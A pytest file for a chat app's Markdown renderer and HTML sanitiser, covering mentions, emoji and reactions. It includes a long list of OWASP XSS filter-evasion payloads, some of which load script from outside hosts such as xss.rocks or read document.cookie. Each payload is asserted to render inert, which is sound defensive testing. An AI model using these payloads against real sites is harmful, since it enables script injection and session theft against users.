"""Tests of message rendering: Markdown to sanitised HTML with mentions and :shortcode: emoji,
the reactions' emoji, and the sanitiser against the OWASP XSS filter evasion payloads."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tertulia.domain.errors import Invalid
from tertulia.domain.ids import ChannelId, UserId
from tertulia.usecases.markup import Markup, canonical_emoji
from tests.usecases.xss import executable, url_scheme

ANA = UserId("01JANA0000000000000000000A")
GENERAL = ChannelId("01JGENERA00000000000000000")
USERS = {"ana": ANA}
CHANNELS = {"general": GENERAL}
SAFE_LINK = 'target="_blank" rel="noopener noreferrer nofollow"'

MARKUP = Markup()


def render(text: str) -> str:
    """The HTML of a message written in a workspace where @ana and #general exist."""
    return MARKUP.parse(text).render(USERS, CHANNELS)


# Markdown --------------------------------------------------------------------------------------


def test_bold_italic_and_strikethrough_are_rendered() -> None:
    """**bold**, *italic* and ~~struck~~ show as such."""
    html = render("**negrita**, *cursiva* y ~~tachado~~")

    assert html.strip() == ("<p><strong>negrita</strong>, <em>cursiva</em> y <s>tachado</s></p>")
    assert executable(html) == []


def test_a_markdown_link_opens_safely_in_a_new_tab() -> None:
    """A [text](url) link keeps its address and opens in a new tab without an opener."""
    html = render("[la guía](https://tertulia.example/guia?a=1&b=2)")

    assert html.strip() == (
        f'<p><a href="https://tertulia.example/guia?a=1&amp;b=2" {SAFE_LINK}>la guía</a></p>'
    )


@pytest.mark.parametrize(
    ("text", "href"),
    [
        pytest.param("mira https://tertulia.example/x", "https://tertulia.example/x", id="bare"),
        pytest.param("mira www.example.com", "http://www.example.com", id="www"),
        pytest.param("<https://tertulia.example/y>", "https://tertulia.example/y", id="angle"),
        pytest.param("escribe a ana@example.com", "mailto:ana@example.com", id="email"),
    ],
)
def test_addresses_become_links_by_themselves(text: str, href: str) -> None:
    """A URL, a www. address or an email address in the text is a link without any markup."""
    html = render(text)

    assert f'<a href="{href}" {SAFE_LINK}>' in html


def test_an_email_address_is_a_link_but_mentions_nobody() -> None:
    """ana@example.com links to an email, and does not mention Ana."""
    parsed = MARKUP.parse("escribe a ana@example.com")
    html = parsed.render(USERS, CHANNELS)

    assert parsed.mentions.usernames == ()
    assert "mention" not in html


def test_code_spans_and_blocks_keep_their_text_as_written() -> None:
    """Inside `code` and ``` blocks, @names, :shortcodes: and Markdown stay literal text."""
    text = "usa `@ana :smile: **x**`\n\n```python\nx = '@ana :smile: <b>'\n```"
    parsed = MARKUP.parse(text)
    html = parsed.render(USERS, CHANNELS)

    assert "<code>@ana :smile: **x**</code>" in html
    assert (
        "<pre><code class=\"language-python\">x = '@ana :smile: &lt;b&gt;'\n</code></pre>" in html
    )
    assert "mention" not in html
    assert "😄" not in html
    assert parsed.mentions.usernames == ()


def test_an_indented_code_block_mentions_nobody() -> None:
    """Four spaces of indent make code: a name there is not a mention."""
    parsed = MARKUP.parse("mira:\n\n    @ana @channel\n")

    assert parsed.mentions.usernames == ()
    assert not parsed.mentions.everyone
    assert "<pre><code>@ana @channel\n</code></pre>" in parsed.render(USERS, CHANNELS)


def test_an_unknown_code_language_is_dropped_but_the_code_kept() -> None:
    """A block marked with a language we do not know still shows its code, without a class."""
    html = render("```klingon\nqapla'\n```")

    assert "<pre><code" in html
    assert "qapla'\n</code></pre>" in html
    assert "klingon" not in html


def test_tables_are_rendered_with_their_alignment() -> None:
    """A pipe table becomes an HTML table, its columns aligned as the dashes say."""
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")

    assert "<table>" in html
    assert '<th style="text-align:left">a</th>' in html
    assert '<td style="text-align:right">2</td>' in html
    assert executable(html) == []


def test_quotes_lists_and_line_breaks_are_rendered() -> None:
    """A quote, bullet and numbered lists and a single new line show as written."""
    html = render("> cita\n\n- uno\n- dos\n\n3. tres\n\nlínea\notra")

    assert "<blockquote>\n<p>cita</p>\n</blockquote>" in html
    assert "<ul>\n<li>uno</li>\n<li>dos</li>\n</ul>" in html
    assert '<ol start="3">\n<li>tres</li>\n</ol>' in html
    assert "<p>línea<br>\notra</p>" in html


def test_raw_html_is_shown_as_text() -> None:
    """Someone typing HTML sees their tags as text; none of it becomes markup."""
    html = render('<b onclick="x()">hola</b>')

    assert html.strip() == '<p>&lt;b onclick="x()"&gt;hola&lt;/b&gt;</p>'


# mentions --------------------------------------------------------------------------------------


def test_a_resolved_mention_is_marked_with_the_user_id() -> None:
    """@ana becomes a mention chip carrying Ana's id; the text around it is untouched."""
    html = render("hola @Ana.")

    assert html.strip() == f'<p>hola <span class="mention" data-user-id="{ANA}">@Ana</span>.</p>'


def test_an_unresolved_mention_stays_plain_text() -> None:
    """@nadie names nobody we know, so it shows as the text typed."""
    parsed = MARKUP.parse("hola @nadie")

    assert parsed.mentions.usernames == ("nadie",)
    assert parsed.render(USERS, CHANNELS).strip() == "<p>hola @nadie</p>"


def test_channel_and_here_calls_are_marked() -> None:
    """@channel, @all and @here show as calls; a known #channel links to its id."""
    html = render("@channel @all @here #general #nada")

    assert html.strip() == (
        '<p><span class="mention mention-all">@channel</span> '
        '<span class="mention mention-all">@all</span> '
        '<span class="mention mention-here">@here</span> '
        f'<span class="channel-mention" data-channel-id="{GENERAL}">#general</span> #nada</p>'
    )


def test_a_name_in_link_text_stays_link_text() -> None:
    """[@ana](url) is a link, not a mention: like the @ana in https://medium.com/@ana/post,
    a name inside a link pings nobody and is not marked."""
    parsed = MARKUP.parse("[@ana](https://tertulia.example) y https://medium.com/@bruno/post")
    html = parsed.render(USERS, CHANNELS)

    assert parsed.mentions.usernames == ()
    assert 'rel="noopener noreferrer nofollow">@ana</a>' in html
    assert "mention" not in html


def test_mentions_in_bold_and_lists_are_found() -> None:
    """A name in bold text or in a list item is still a mention."""
    parsed = MARKUP.parse("**@ana** y\n\n- @bruno\n- > @carla")

    assert parsed.mentions.usernames == ("ana", "bruno", "carla")


# emoji -----------------------------------------------------------------------------------------


def test_shortcodes_become_emoji() -> None:
    """:smile:, :+1: and :tada: show as 😄, 👍 and 🎉; an unknown :code: stays text."""
    html = render("hola :smile: :+1: :tada: :no_existe:")

    assert html.strip() == "<p>hola 😄 👍 🎉 :no_existe:</p>"


def test_shortcodes_in_code_stay_shortcodes() -> None:
    """`:smile:` inside code is shown as typed."""
    assert render("`:smile:`").strip() == "<p><code>:smile:</code></p>"


@pytest.mark.parametrize(
    ("given_emoji", "stored"),
    [
        pytest.param("👍", "👍", id="unicode"),
        pytest.param(":+1:", "👍", id="plus-one"),
        pytest.param(":thumbsup:", "👍", id="alias"),
        pytest.param(" 👍 ", "👍", id="spaces"),
        pytest.param("❤", "❤\ufe0f", id="heart-unqualified"),
        pytest.param("❤\ufe0f", "❤\ufe0f", id="heart-qualified"),
        pytest.param(":heart:", "❤\ufe0f", id="heart-shortcode"),
        pytest.param("👍🏽", "👍🏽", id="skin-tone"),
        pytest.param("👩\u200d💻", "👩\u200d💻", id="zwj-sequence"),
        pytest.param("🇪🇸", "🇪🇸", id="flag"),
        pytest.param(":tada:", "🎉", id="tada"),
    ],
)
def test_a_reaction_is_stored_as_the_emoji_itself(given_emoji: str, stored: str) -> None:
    """A Unicode emoji or a known :shortcode: is one reaction, stored as the emoji."""
    assert canonical_emoji(given_emoji) == stored


def test_shortcode_and_unicode_are_the_same_reaction() -> None:
    """Reacting with :+1: or 👍, or with ❤ or ❤️, is reacting with the same emoji."""
    assert canonical_emoji(":+1:") == canonical_emoji("👍") == canonical_emoji(":thumbsup:")
    assert canonical_emoji("❤") == canonical_emoji("❤️") == canonical_emoji(":heart:")


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("", id="empty"),
        pytest.param("   ", id="blank"),
        pytest.param("x", id="letter"),
        pytest.param("ok", id="word"),
        pytest.param(":no_such_emoji:", id="unknown-shortcode"),
        pytest.param("::", id="colons"),
        pytest.param("👍👍", id="two-emoji"),
        pytest.param("👍 🎉", id="two-emoji-spaced"),
        pytest.param("👍x", id="emoji-and-text"),
        pytest.param(":+1::tada:", id="two-shortcodes"),
        pytest.param("<script>", id="markup"),
    ],
)
def test_anything_but_one_known_emoji_is_refused(value: str) -> None:
    """Text, unknown shortcodes or several emoji give Invalid reaction.unknown_emoji."""
    with pytest.raises(Invalid) as caught:
        canonical_emoji(value)

    assert caught.value.code == "reaction.unknown_emoji"
    assert [e.field for e in caught.value.errors] == ["emoji"]


# the sanitiser ---------------------------------------------------------------------------------

# From the OWASP XSS Filter Evasion Cheat Sheet, plus the Markdown ways of writing the same
# links (inline, reference, autolink), written out here.
OWASP_PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/"
    "onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
    "\\<a onmouseover=alert(document.cookie)\\>xxs link\\</a\\>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" '
    'AllowScriptAccess="always"></EMBED>',
    "<a href=\"jav&#x09;ascript:alert('XSS')\">x</a>",
    "<a href=\"javascript:alert('XSS')\">x</a>",
    "<a href=`javascript:alert(1)`>backtick</a>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    '<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml">'
    "<html:script>alert('XSS')</html:script></html:html>",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<IMG SRC="javascript:alert(\'XSS\')" """ onerror="alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    # the same in Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav%09ascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript:alert&#40;1&#41;)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: https://example.com "t" onmouseover="alert(1)"',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](https://example.com" onclick="alert(1))',
    '[x](http://example.com/"onmouseover="alert(1))',
    '[a](https://x.org "title\\" onmouseover=\\"alert(1)")',
    '<http://example.com/" onmouseover="alert(1)>',
    "[@ana](javascript:alert(1))",
    "@ana<script>alert(1)</script>",
    "#general<img src=x onerror=alert(1)>",
    ":smile:<svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```javascript onload=alert(1)\nx\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|---|\n| <td style="x:expression(alert(1))"> |',
    "> <img src=x onerror=alert(1)>",
    "- <iframe src=javascript:alert(1)>",
    "**<object data=javascript:alert(1)>**",
    "~~<embed src=javascript:alert(1)>~~",
    "javascript:alert(1)",
    "www.example.com/<script>alert(1)</script>",
    'https://example.com/?q="><script>alert(1)</script>',
]


def test_there_are_enough_payloads() -> None:
    """The sanitiser is checked against a long list of known attacks, not a handful."""
    assert len(OWASP_PAYLOADS) >= 40
    assert len(set(OWASP_PAYLOADS)) == len(OWASP_PAYLOADS)


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_known_xss_payloads_render_nothing_executable(payload: str) -> None:
    """No message, however crafted, makes a reader's browser run anything."""
    html = render(payload)

    assert executable(html) == [], html


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("javascript:alert(1)", "javascript"),
        ("  JaVa\tScRiPt:alert(1)", "javascript"),
        ("\x01javascript:x", "javascript"),
        ("https://x.org", "https"),
        ("relative/path:x", None),
        ("//x.org", None),
    ],
)
def test_the_auditor_sees_urls_as_browsers_do(url: str, scheme: str | None) -> None:
    """The check itself ignores the tabs, new lines and control characters browsers ignore."""
    assert url_scheme(url) == scheme


def test_the_auditor_catches_what_it_should() -> None:
    """The check itself flags scripts, handlers, bad schemes, foreign tags and styles."""
    assert executable("<p>ok <a href='https://x.org'>x</a></p>") == []
    assert executable("<script>x</script>")
    assert executable('<p onclick="x">y</p>')
    assert executable('<a href="jav&#x09;ascript:alert(1)">x</a>')
    assert executable('<span style="background:url(x)">x</span>')
    assert executable("<img src=x>")
    assert executable("<!-- x -->")


DANGEROUS_PIECES = [
    "<", ">", "\"", "'", "`", "=", "&", "#", ";", ":", "(", ")", "[", "]", "!", "/", "\\",
    " ", "\t", "\n", "\x00", "\x01", "*", "~", "|", "-", "@", "ana", "general", ":smile:",
    "script", "<script>", "</script>", "<img src=x onerror=alert(1)>", "onerror=", "onload",
    "javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "&#106;", "&#x6A;", "vbscript:",
    "data:text/html,", "alert(1)", "<svg", "<iframe", "<a href=", "](", "](javascript:",
    "<javascript:", "http://", "https://x.org", "mailto:", "www.", "```", "`", "    ",
    "| a |\n|---|\n", "> ", "- ", "style=", "expression(", "&quot;", "&lt;", "<!--", "-->",
]  # fmt: skip


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(
    st.one_of(
        st.lists(st.sampled_from(DANGEROUS_PIECES), max_size=30).map("".join),
        st.text(max_size=200),
        st.lists(
            st.one_of(st.sampled_from(DANGEROUS_PIECES), st.text(max_size=5)), max_size=20
        ).map("".join),
    )
)
def test_no_text_renders_anything_executable(text: str) -> None:
    """Whatever mix of markup, entities and Markdown someone types, the HTML stays inert."""
    html = render(text)

    assert executable(html) == [], html
